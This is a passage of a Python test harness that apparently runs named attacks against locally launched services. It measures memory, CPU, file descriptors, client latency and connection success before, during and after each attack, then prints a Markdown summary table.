            alive = target.alive
            peak_sampled, fds_peak = sampler.peak(marks[phase], now)
            peak = peak_rss_kib(pid) if alive and s.pop("_hwm") else peak_sampled
            s.update(
                {
                    "seconds": round(now - marks[phase], 2),
                    "rss_end_mib": round(rss_kib(pid) / 1024, 1) if alive else None,
                    "rss_peak_mib": round(max(peak or 0, peak_sampled) / 1024, 1),
                    "cpu_s": round(cpu_seconds(pid) - s.pop("_cpu"), 2) if alive else None,
                    "fds_peak": fds_peak,
                    "log_bytes": target.bytes_out - s.pop("_log"),
                }
            )
            s.pop("_hwm", None)
            marks[phase + "_end"] = now

        begin("before")
        time.sleep(args.before)
        end("before")
        begin("during")
        if attack.target == "consumer":
            client.signal(signal.SIGUSR1)
        ctx = Context(
            port, args.seconds, provider, admin_port=admin_port, fake=fake, target_pid=pid
        )
        try:
            result["details"] = attack.run(ctx)
        except Exception as e:
            result["attack_error"] = f"{type(e).__name__}: {e}"
            result["attack_traceback"] = traceback.format_exc(limit=5)
        held = (ctx.held_from, time.monotonic())
        end("during")
        begin("after")
        time.sleep(args.after)
        end("after")
        result["target_alive"] = target.alive
        result["provider_alive"] = provider.alive
        if probe is not None:
            probe.halt.set()
            probe.join(5)
        client.signal(signal.SIGTERM)
        client.process.wait(20)
        calls = json.loads(out.read_text())
        for phase in PHASES:
            stats[phase]["good_client"] = latency_stats(
                calls["calls"], marks[phase], marks[phase + "_end"]
            )
            if probe is not None:
                tried = [ok for t, ok in probe.results if marks[phase] <= t < marks[phase + "_end"]]
                stats[phase]["new_connections"] = {"tried": len(tried), "ok": sum(tried)}
            if probe is not None and held[0] is not None:
                tried = [ok for t, ok in probe.results if held[0] <= t < held[1]]
                result["new_connections_while_held"] = {"tried": len(tried), "ok": sum(tried)}
        if calls["fake_calls"]:
            result["consumer_call_to_fake"] = calls["fake_calls"][0][:200]
        result["phases"] = stats
        result["target_log_tail"] = target.output_tail()[-600:]
    except Exception as e:
        result["error"] = f"{type(e).__name__}: {e}"
        result["traceback"] = traceback.format_exc(limit=5)
    finally:
        if probe is not None:
            probe.halt.set()
        if sampler is not None:
            sampler.halt.set()
        if fake is not None:
            fake.close()
        for process in reversed(started):
            process.stop()
    return result


# --------------------------------------------------------------------------- report


def _latency_cell(g: dict | None) -> str:
    if not g:
        return "–"
    if not g["calls"]:
        return f"none started: client blocked {g['longest_gap_between_calls_ms'] / 1000:.1f} s"
    if not g["ok"]:
        return f"none ok ({g['failed']}/{g['calls']} failed)"
    return f"{g['p50_ms']:g} / {g['p99_ms']:g} ({g['failed']}/{g['calls']})"


def table(results: list[dict]) -> str:
    lines = [
        "| attack | issue | target | RSS MiB: before → peak during → end after "
        "| CPU s: during (after) | good client p50 / p99 ms (failed/calls): before "
        "| during | after | new connections ok/tried: during (after) | attack |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    for r in results:
        name = f"`{r['attack']}`"
        if "phases" not in r:
            lines.append(
                f"| {name} | {r['issue']} | {r['target']} | did not run: "
                f"{r.get('error', '?')[:120]} | | | | | | |"
            )
            continue
        b, d, a = (r["phases"][p] for p in PHASES)
        nc = "–"
        if "new_connections" in d:
            nc = (
                f"{d['new_connections']['ok']}/{d['new_connections']['tried']} "
                f"({a['new_connections']['ok']}/{a['new_connections']['tried']})"
            )
            held = r.get("new_connections_while_held")
            if held:
                nc += f"; {held['ok']}/{held['tried']} once all open"
        details = r.get("attack_error") or json.dumps(r.get("details", {}))[:300]
        alive = "" if r.get("target_alive") else " **target died**"
        lines.append(
            f"| {name} | {r['issue']} | {r['target']} "
            f"| {b['rss_end_mib']} → {d['rss_peak_mib']} → {a['rss_end_mib']} "
            f"| {d['cpu_s']} ({a['cpu_s']}) "
            f"| {_latency_cell(b['good_client'])} | {_latency_cell(d['good_client'])} "
            f"| {_latency_cell(a['good_client'])} | {nc} | {details}{alive} |"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["--good-client"]:
        return good_client_main(argv[1:])
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--only",
        action="append",
        choices=sorted(ATTACKS),
        metavar="NAME",
        help="run this attack only (repeatable): " + ", ".join(ATTACKS),
    )
    parser.add_argument("--seconds", type=float, default=3.0, help="length of each attack")
    parser.add_argument("--before", type=float, default=2.0, help="seconds measured before")
    parser.add_argument("--after", type=float, default=3.0, help="seconds measured after")
    parser.add_argument("--json", help="write every result to this file")
    args = parser.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 4096 <= hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (4096, hard))
    results = []
    started = time.monotonic()
    for name in args.only or list(ATTACKS):
        result = run_attack(ATTACKS[name], args)
        results.append(result)
        print(
            json.dumps(
                {k: v for k, v in result.items() if "traceback" not in k and k != "target_log_tail"}
            ),
            flush=True,
        )
        if "error" in result or "attack_error" in result:
            print(result.get("traceback") or result.get("attack_traceback"), file=sys.stderr)
    if args.json:
        Path(args.json).write_text(json.dumps(results, indent=2))
    print()
    print(table(results))
    print(f"\n{len(results)} attacks in {time.monotonic() - started:.0f} s")
    return 1 if any("error" in r for r in results) else 0


if __name__ == "__main__":
    sys.exit(main())
